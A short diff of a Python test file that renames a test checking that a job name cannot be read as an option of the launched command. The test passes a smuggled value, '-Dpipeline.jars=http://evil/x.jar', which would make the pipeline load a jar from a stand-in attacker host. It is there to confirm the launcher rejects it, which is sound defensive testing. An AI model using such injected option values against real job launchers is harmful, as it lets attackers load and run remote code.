@@ -129,7 +129,7 @@ def test_a_name_without_shell_separators_is_inserted_also_for_a_shell(tmp_path):
     assert (tmp_path / "flights-2.1_é").exists()
 
 
-def test_a_name_is_no_option(program):
+def test_a_job_name_is_never_taken_for_an_option_of_the_command(program):
     with pytest.raises(NotRun, match="would be read as an option"):
         start([program("true"), "{savepoint}", "{job_id}", "{job_name}"], job_name="-Dpipeline.jars=http://evil/x.jar")
     assert start([program("true"), "{savepoint}", "{job_id}", "--name={job_name}"], job_name="-x") == ID
